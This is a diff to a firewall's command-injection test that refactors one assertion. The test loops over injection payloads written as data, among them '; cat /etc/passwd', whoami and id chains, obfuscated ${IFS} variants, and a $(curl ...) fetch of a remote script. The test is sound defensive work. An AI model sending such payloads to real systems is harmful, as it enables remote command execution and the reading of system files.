@@ -153,7 +153,8 @@ describe('waf: command injection', () => {
     for (const payload of ['; cat /etc/passwd', '| id', '127.0.0.1 && whoami', '`id`', '$(curl http://203.0.113.9/x.sh)', ';c\'a\'t${IFS}/etc/passwd', '; w\\ho\\am\\i', "system('id')"]) {
       const result = await verdict(inQuery(payload));
       assert.ok(result, payload);
-      assert.ok(['rce', 'lfi'].includes(String(result.event?.data?.rule).split('.')[0]), `${payload}: ${String(result.event?.data?.rule)}`);
+      const category = String(result.event?.data?.rule).split('.')[0] ?? '';
+      assert.ok(['rce', 'lfi'].includes(category), `${payload}: ${String(result.event?.data?.rule)}`);
     }
   });
 
